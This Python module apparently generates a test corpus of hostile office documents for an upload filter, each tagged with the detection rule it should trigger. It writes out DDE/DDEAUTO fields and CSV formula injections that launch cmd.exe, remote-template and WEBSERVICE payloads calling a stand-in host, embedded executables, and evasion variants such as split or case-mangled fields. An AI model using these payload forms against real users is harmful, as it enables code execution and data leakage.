# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile files, lines 75 to 78 and 87: office documents that act, fetch or cannot be looked into."""
import struct

import ole
from corpus import bad_file
from inert import exe
from office import NS, docx, odf, odp, ods, odt, pptx, row, xlsx
from zips import plain

VBA = ole.compound(ole.vba())
OVERRIDE = '<Override PartName="/{}" ContentType="{}"/>'


def native(name="start.exe", data=None):
    """An OLE package: Ole10Native with a file in it."""
    data = exe() if data is None else data
    path = name.encode() + b"\0"
    body = struct.pack("<H", 2) + path + path + struct.pack("<II", 0x00030000, len(path)) + path + struct.pack("<I", len(data)) + data
    return ole.compound({"\x01Ole10Native": struct.pack("<I", len(body)) + body, "\x03ObjInfo": bytes(6)}, bytes.fromhex("0c00030000000000c000000000000046"))


def make():
    embedded()
    macros()
    old_macros()
    fetching()
    dde()
    rtf()
    locked()


def embedded():
    rule = "embedded | program | macro | name"
    bin_type = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    for name, data in (("package", native()), ("package-txt", native("lies.txt", b"nur Text\r\n")), ("package-js", native("a.js", b"var a = 1;\r\n"))):
        bad_file(f"docx-{name}.docx", docx(parts={"word/embeddings/oleObject1.bin": data}, links=[("oleObject", "embeddings/oleObject1.bin", False)], more_types=bin_type),
                 rule + " | script", 75, "an OLE package: a file that a double click starts")
    bad_file("docx-package-renamed.docx", docx(parts={"word/media/bild1.png": native()}, links=[("image", "media/bild1.png", False)]), rule + " | mismatch", 75,
             "an OLE package called a picture")
    bad_file("docx-exe-media.docx", docx(parts={"word/media/bild1.png": exe()}, links=[("image", "media/bild1.png", False)]), rule + " | mismatch", 75, "a program called a picture")
    bad_file("docx-exe-loose.docx", docx(parts={"word/start.exe": exe()}), rule, 75, "a program as a member that nothing names")
    bad_file("docx-exe-embedding.docx", docx(parts={"word/embeddings/oleObject1.bin": exe()}, links=[("oleObject", "embeddings/oleObject1.bin", False)], more_types=bin_type), rule + " | mismatch", 75,
             "a program as an embedded object")
    active = f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" ax:persistence="persistStreamInit"/>'
    for name, make_it, folder in (("docx", docx, "word"), ("xlsx", xlsx, "xl"), ("pptx", pptx, "ppt")):
        bad_file(f"{name}-activex.{name}", make_it(parts={f"{folder}/activeX/activeX1.xml": active, f"{folder}/activeX/activeX1.bin": bytes(64)},
                 more_types=OVERRIDE.format(f"{folder}/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")), rule + " | unknown_kind", 75, "an ActiveX control")
    bad_file("xlsx-package.xlsx", xlsx(parts={"xl/embeddings/oleObject1.bin": native()}, more_types=bin_type), rule, 75, "an OLE package in a table")
    bad_file("pptx-package.pptx", pptx(parts={"ppt/embeddings/oleObject1.bin": native()}, more_types=bin_type), rule, 75, "an OLE package in a talk")
    bad_file("docx-docm-inside.docx", docx(parts={"word/embeddings/Dokument1.docm": docx(kind="docm", parts={"word/vbaProject.bin": VBA})},
             links=[("package", "embeddings/Dokument1.docm", False)]), rule, 75, "a document with macros inside a document")
    bad_file("docx-html-chunk.docx", docx(body='<w:altChunk r:id="rId1"/>', parts={"word/chunk.html": "<html><script>alert(1)</script></html>"}, links=[("aFChunk", "chunk.html", False)], more_types='<Default Extension="html" ContentType="text/html"/>'),
             "html_active | embedded | remote", 75, "a page with a script as altChunk")
    bad_file("odt-ole.odt", odt(body='<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>', parts={"Object 1": native()}), rule, 75, "an OLE package in ODF")
    bad_file("odt-exe.odt", odt(parts={"Pictures/bild.png": exe()}), rule + " | mismatch", 75, "a program among the pictures of ODF")
    bad_file("odp-plugin.odp", odp(body='<draw:frame><draw:plugin xlink:href="./start.exe"/></draw:frame>', parts={"start.exe": exe()}), rule, 75, "a program as a plug-in of ODF")
    bad_file("epub-script.epub", plain({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>", "a.xhtml": b"<html><script>x()</script></html>", "start.exe": exe()}),
             rule + " | html_active | mismatch | archive_trick", 75, "a program in a book")
    bad_file("doc-package.doc", ole.word(more={"ObjectPool/_1234/\x01Ole10Native": struct.pack("<I", 520) + bytes(8) + exe()}), rule, 75, "an OLE package in old Word")
    bad_file("xls-package.xls", ole.excel(more={"MBD00A1/\x01Ole10Native": struct.pack("<I", 520) + bytes(8) + exe()}), rule, 75, "an OLE package in old Excel")


def macros():
    vba = {"word": {"word/vbaProject.bin": VBA}, "xl": {"xl/vbaProject.bin": VBA}, "ppt": {"ppt/vbaProject.bin": VBA}}
    rule = "macro"
    for name, data in {"docm": docx(kind="docm", parts=vba["word"], links=[("vbaProject", "vbaProject.bin", False)]),
                       "xlsm": xlsx(kind="xlsm", parts=vba["xl"]), "pptm": pptx(kind="pptm", parts=vba["ppt"])}.items():
        bad_file(f"vba.{name}", data, rule, 76, "macros, by their own name")
        plain_name = name[:-1] + "x"
        bad_file(f"vba-renamed-{name}.{plain_name}", data, rule + " | mismatch", 76, "macros, called a document without")
        bad_file(f"vba-teacher.{name}", data, rule, 76, "macros from a teacher to pupils", role="teacher", area="material")
        bad_file(f"vba-staff-default.{name}", data, rule, 76, "macros between staff: refused unless the school allows it", role="teacher", area="teachers", staff="yes")
        bad_file(f"vba-pupil-allowed.{name}", data, rule, 76, "macros of a pupil, though the school allows them between staff", settings="macros_among_staff")
    bad_file("vba-moved.docx", docx(parts={"word/harmlos.xml": VBA}, more_types=OVERRIDE.format("word/harmlos.xml", "application/vnd.ms-office.vbaProject"),
             links=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "harmlos.xml", False)]), rule + " | mismatch", 76, "macros under another member's name")
    bad_file("vba-as-picture.docx", docx(parts={"word/media/bild1.jpg": VBA}, links=[("image", "media/bild1.jpg", False)]), rule + " | mismatch", 76, "macros called a picture")
    bad_file("vba-signed.docm", docx(kind="docm", parts={**vba["word"], "word/vbaProjectSignature.bin": bytes(200)}), rule + " | unknown_kind", 76, "signed macros are macros")
    bad_file("vba-doc-name.doc", docx(kind="docm", parts=vba["word"]), rule + " | mismatch", 76, "OOXML with macros under the old extension")
    bad_file("vba-stripped-type.docx", docx(parts=vba["word"]), rule, 76, "macros in a document of the type without")
    bad_file("vba-in-zip.zip", plain({"Referat.docx": docx(kind="docm", parts=vba["word"])}), rule + " | mismatch", 76, "macros in a ZIP")
    bad_file("vba-case.docm", docx(kind="docm", parts={"word/VBAPROJECT.BIN": VBA}), rule, 76, "macros, the member in capitals")
    bad_file("xlsb.xlsb", xlsx(kind="xlsb", parts={**vba["xl"], "xl/workbook.bin": bytes(40)}), rule + " | unreadable | unknown_kind", 76, "a binary table with macros")
    macrosheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>'
    bad_file("xlm.xlsm", xlsx(kind="xlsm", parts={"xl/macrosheets/sheet1.xml": macrosheet}, more_types=OVERRIDE.format("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
             links=[("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)]), rule, 76, "macros of Excel 4")
    bad_file("xlm-intl.xlsm", xlsx(kind="xlsm", parts={"xl/macrosheets/intlsheet1.xml": macrosheet}, more_types=OVERRIDE.format("xl/macrosheets/intlsheet1.xml",
             "application/vnd.ms-excel.intlmacrosheet+xml")), rule, 76, "international macros of Excel 4")
    bad_file("xlm-renamed.xlsx", xlsx(parts={"xl/blatt.xml": macrosheet}, links=[("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "blatt.xml", False)],
             more_types=OVERRIDE.format("xl/blatt.xml", "application/vnd.ms-excel.macrosheet+xml")), rule, 76, "macros of Excel 4 in a member of another name")
    bad_file("dialogsheet.xlsm", xlsx(kind="xlsm", parts={"xl/vbaProject.bin": VBA, "xl/dialogsheets/sheet1.xml": "<dialogsheet/>"}), rule, 76, "a dialog sheet and macros")
    basic = '<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main\nEnd Sub</script:module>'
    for kind, make_it in (("odt", odt), ("ods", ods), ("odp", odp)):
        bad_file(f"basic.{kind}", make_it(parts={"Basic/Standard/M.xml": basic, "Basic/Standard/script-lb.xml": "<library/>", "Basic/script-lc.xml": "<libraries/>"}), rule, 76, "Basic in ODF")
    bad_file("python.odt", odt(parts={"Scripts/python/a.py": "def a():\n    pass\n"}), rule + " | script", 76, "Python in ODF")
    bad_file("listener.odt", odt(scripts='<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'),
             rule, 76, "an event that calls a macro")
    flat = f'<?xml version="1.0"?><office:document {NS} office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"/></ooo:libraries></office:script></office:scripts><office:body><office:text/></office:body></office:document>'
    bad_file("flat.fodt", flat.encode(), rule, 76, "Basic in flat ODF")


def old_macros():
    rule = "macro"
    macros_tree = {f"Macros/{path}": data for path, data in ole.vba().items()}
    project = {f"_VBA_PROJECT_CUR/{path}": data for path, data in ole.vba().items()}
    bad_file("vba.doc", ole.word(more=macros_tree), rule, 76, "macros in old Word")
    bad_file("vba.dot", ole.word(more=macros_tree), rule, 76, "macros in an old template")
    bad_file("vba-renamed.docx", ole.word(more=macros_tree), rule + " | mismatch", 76, "macros in old Word, called new")
    bad_file("vba-rtf-name.rtf", ole.word(more=macros_tree), rule + " | mismatch", 76, "macros in old Word, called RTF")
    bad_file("vba.xls", ole.excel(more=project), rule, 76, "macros in old Excel")
    bad_file("vba.ppt", ole.powerpoint(more={"VBA/dir": b"x", "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff"}), rule + " | unreadable", 76, "macros in old PowerPoint")
    bad_file("xlm.xls", ole.excel((("Tabelle1", 0), ("Makro1", 0x0001))), rule, 76, "a macro sheet of Excel 4")
    bad_file("xlm-hidden.xls", ole.excel((("Tabelle1", 0), ("Makro1", 0x0101))), rule, 76, "a hidden macro sheet of Excel 4")
    bad_file("xlm-very-hidden.xls", ole.excel((("Tabelle1", 0), ("Makro1", 0x0201))), rule, 76, "a very hidden macro sheet of Excel 4")
    bad_file("excel5.xls", ole.compound({"Book": (struct.pack("<HHHHHH", 0x809, 8, 0x500, 5, 0x1234, 0x7CC) + struct.pack("<HHIBBB", 0x85, 8, 0, 0, 6, 1) + b"M").ljust(4096, b"\0"),
             "_VBA_PROJECT_CUR/VBA/dir": b"x"}, ole.EXCEL), rule + " | unreadable", 76, "Excel 5 with macros")
    mht = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<html xmlns:w="urn:schemas-microsoft-com:office:word"></html>\r\n--x\r\nContent-Location: editdata.mso\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n\r\nQWN0aXZlTWltZQAAAfAE\r\n--x--\r\n'
    bad_file("mht.doc", mht, rule + " | html_active | mismatch | unknown_kind", 76, "Word as MHTML with its macros (ActiveMime)")
    bad_file("slk.slk", b"ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC(\"calc\")\r\nE\r\n", rule + " | name | formula | shortcut | unknown_kind | script | mismatch", 76, "macros of Excel 4 in a table as text")
    bad_file("slk-csv.csv", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n", rule + " | formula | mismatch | unknown_kind", 76, "a table of that kind called CSV: Excel looks at the first line")


def fetching():
    rule = "remote"
    out = "http://boese.example/vorlage.dotm"
    settings = f'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'
    template = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{}" TargetMode="External"/></Relationships>'
    for name, target in (("http", out), ("https", "https://boese.example/a.dotm"), ("unc", "\\\\boese.example\\a\\b.dotm"), ("file", "file://boese.example/a.dotm"), ("mhtml", "mhtml:http://boese.example/a!x")):
        bad_file(f"template-{name}.docx", docx(parts={"word/settings.xml": settings, "word/_rels/settings.xml.rels": template.format(target)}), rule + " | link_disguised", 77, "a template from elsewhere")
    for name, kind in (("image", "image"), ("frame", "frame"), ("ole", "oleObject"), ("subdocument", "subDocument"), ("chunk", "aFChunk")):
        bad_file(f"external-{name}.docx", docx(links=[(kind, "http://boese.example/x", True)]), rule + " | embedded", 77, f"{kind} from elsewhere")
    bad_file("external-link.xlsx", xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": template.replace("attachedTemplate", "externalLinkPath").format("http://boese.example/a.xlsx")}),
             rule, 77, "a table linked from elsewhere")
    bad_file("external-ole.pptx", pptx(links=[("oleObject", "http://boese.example/a.sct", True)]), rule + " | embedded", 77, "an object from elsewhere in a talk")
    bad_file("includepicture.docx", docx(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://boese.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule + " | formula", 77, "a picture field from elsewhere")
    bad_file("includetext-split.docx", docx(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://boese.example/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule + " | formula", 77, "a text field from elsewhere, in pieces")
    bad_file("remote-image.odt", odt(body='<text:p><draw:frame><draw:image xlink:href="http://boese.example/x.png"/></draw:frame></text:p>'), rule, 77, "a picture from elsewhere in ODF")
    bad_file("remote-section.odt", odt(body='<text:section text:name="a"><text:section-source xlink:href="http://boese.example/a.odt"/></text:section>'), rule, 77, "a section from elsewhere in ODF")
    bad_file("remote-frame.odt", odt(body='<text:p><draw:frame><draw:floating-frame xlink:href="http://boese.example/"/></draw:frame></text:p>'), rule, 77, "a frame from elsewhere in ODF")
    bad_file("remote-sheet.ods", ods(body='<table:table table:name="x"><table:table-source xlink:href="http://boese.example/a.ods"/></table:table>'), rule, 77, "a table from elsewhere in ODF")
    bad_file("webservice.xlsx", xlsx(row('=WEBSERVICE("http://boese.example/?a="&amp;A2)')), rule + " | formula", 77, "WEBSERVICE: a table that tells the net what is in it")
    bad_file("connection.xlsx", xlsx(parts={"xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="x" type="4" refreshOnLoad="1"><webPr url="http://boese.example/x"/></connection></connections>'}),
             rule + " | formula", 77, "a connection that is fetched at opening")


def dde():
    rule = "formula"
    for name, body in {"dde": '<w:instrText>DDE cmd "/k calc"</w:instrText>', "ddeauto": '<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText>',
                       "split": "<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>", "case": "<w:instrText> dDeAuTo cmd x</w:instrText>"}.items():
        bad_file(f"dde-{name}.docx", docx(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>{body}</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule, 77, "a field that starts something")
    bad_file("dde-simple.docx", docx(body='<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/k calc&quot;"/></w:p>'), rule, 77, "a field that starts something, in short form")
    bad_file("dde-quote.docx", docx(body='<w:p><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r></w:p><w:p><w:fldSimple w:instr="DDE x y"/></w:p>'), rule, 77, "a field spelled by numbers, and one plain")
    bad_file("dde-header.docx", docx(parts={"word/header1.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'}, links=[("header", "header1.xml", False)]),
             rule, 77, "a field that starts something, in the page's head")
    bad_file("dde.xlsx", xlsx(row("=cmd|'/c calc'!A0")), rule, 77, "a formula that starts something")
    bad_file("dde-link.xlsx", xlsx(parts={"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), rule + " | remote", 77, "a DDE link of a table")
    bad_file("dde.ods", ods(body='<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></table:dde-link></table:dde-links>'), rule, 77, "DDE in ODF")
    bad_file("dde-formula.ods", odf("ods", '<office:spreadsheet><table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row></table:table></office:spreadsheet>'),
             rule, 77, "the DDE function in ODF")
    for name, text in {"equals": "Name;Punkte\r\n=cmd|' /C calc'!A0;3\r\n", "plus": "a;b\r\n+cmd|' /C calc'!A0;1\r\n", "minus": "-cmd|'/c calc'!A1,2\r\n", "at": "@SUM(1+1)*cmd|' /C calc'!A0\r\n",
                       "quoted": "\"=cmd|' /C calc'!A0\";1\r\n", "tab": "a\t=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A\r\n", "blank": "a; =cmd|'/c calc'!A0\r\n",
                       "webservice": '=WEBSERVICE("http://boese.example/"&A1),1\r\n', "importxml": '=IMPORTXML("http://boese.example/";"//a")\r\n'}.items():
        bad_file(f"csv-{name}.csv", text.encode(), rule + " | remote", 77, "a cell that starts or fetches something")
    bad_file("csv-utf16.csv", "Name;Punkte\r\n=cmd|' /C calc'!A0;3\r\n".encode("utf-16"), rule, 77, "a cell that starts something, in UTF-16")


def rtf():
    rule = "embedded | unreadable"
    hexed = native().hex()
    for name, text in {"objdata": r"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata " + hexed + "}}}", "objupdate": r"{\rtf1{\object\objautlink\objupdate{\*\objdata " + hexed[:200] + "}}}",
                       "equation": r"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}", "blanks": r"{\rtf1{\object\objemb{\*\objdata " + " ".join(hexed[:600]) + "}}}",
                       "nested": r"{\rtf1{\object{\*\x{\y}}\objemb{\*\objdata{\*\z 1}" + hexed[:300] + "}}}", "bin": r"{\rtf1{\object\objemb{\*\objdata \bin8 ABCDEFGH" + hexed[:100] + "}}}",
                       "no-version": r"{\rt{\object\objocx{\*\objdata " + hexed[:200] + "}}}", "link": r"{\rtf1{\object\objautlink{\*\objclass Word.Document.8}{\*\objdata 01050000}}}",
                       "field-dde": r"{\rtf1{\field{\*\fldinst DDEAUTO cmd x}{\fldrslt x}}}", "template": r"{\rtf1{\*\template http://boese.example/a.dotm}x}",
                       "includepicture": r'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://boese.example/x.png"}}}', "escaped": r"{\rtf1{\object\objemb{\*\obj" + "\r\n" + r"data " + hexed[:200] + r"}}{\*\objclass Package}}"}.items():
        data = text.encode("latin-1")
        bad_file(f"rtf-{name}.rtf", data, rule + " | formula | remote | unknown_kind", 78, "RTF with an object, or one that fetches or starts something")
    bad_file("rtf-named-doc.doc", (r"{\rtf1{\object\objemb{\*\objdata " + hexed + "}}}").encode(), rule + " | mismatch", 78, "RTF with an object under the name of Word")
    bad_file("rtf-named-docx.docx", (r"{\rtf1{\object\objemb{\*\objdata " + hexed + "}}}").encode(), rule + " | mismatch", 78, "RTF with an object under the name of new Word")


def locked():
    package = ole.compound({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>", "EncryptedPackage": struct.pack("<Q", 5000) + bytes((n * 91) % 256 for n in range(5008))})
    for name in ("docx", "xlsx", "pptx"):
        bad_file(f"locked.{name}", package, "encrypted", 87, "opens with a password only")
    fib = bytearray(ole.word())
    at = fib.index(struct.pack("<HH", 0xA5EC, 0xC1))
    fib[at + 11] |= 1
    bad_file("locked.doc", bytes(fib), "encrypted", 87, "old Word with a password")
    record = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0xDBB, 0x7CC, 0, 6) + struct.pack("<HHHHH", 0x2F, 54, 1, 1, 1) + bytes(48) + struct.pack("<HH", 0x0A, 0)
    bad_file("locked.xls", ole.compound({"Workbook": record.ljust(4096, b"\0")}, ole.EXCEL), "encrypted", 87, "old Excel with a password")
    lock = '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="500"><manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="x"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="x"/></manifest:encryption-data></manifest:file-entry>'
    bad_file("locked.odt", odt(extra_manifest=lock), "encrypted", 87, "ODF with a password")
    bad_file("locked-in-zip.zip", plain({"a.docx": package}), "encrypted", 87, "a document with a password in a ZIP")
